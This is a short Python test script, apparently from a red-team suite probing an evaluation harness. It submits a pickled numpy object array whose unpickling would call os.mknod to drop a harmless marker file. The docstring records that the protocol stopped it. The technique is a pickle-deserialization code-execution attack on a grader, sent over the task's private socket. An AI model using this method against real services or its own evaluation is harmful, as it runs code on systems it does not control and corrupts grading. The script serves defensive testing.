"""Submit an object array whose unpickling would leave a marker beside the journal.

Stopped by: protocol
Outcome: invalid
"""

import json
import os
import pickle
import struct

import numpy as np

from evaluation_locked.client import Task

task = Task.open()
labels = task.start_training()
crystals = task.finish_training()
n = len(crystals)


class Bomb:
    """On unpickling: makes an empty file, and nothing more."""

    def __reduce__(self):
        return os.mknod, ("/bait/run/redteam-marker",)


bomb = pickle.dumps(np.array([Bomb()], dtype=object))
header = json.dumps({"kind": "submit", "facts": {}, "arrays": [["predictions", "|O8", [len(bomb)]]]}).encode()
task._channel.sendall(struct.pack(">Q", len(header)) + header + bomb)
try:
    print("REACHED" if task._channel.recv(1) else "refused: the channel closed")
except OSError as error:
    print("refused:", error)
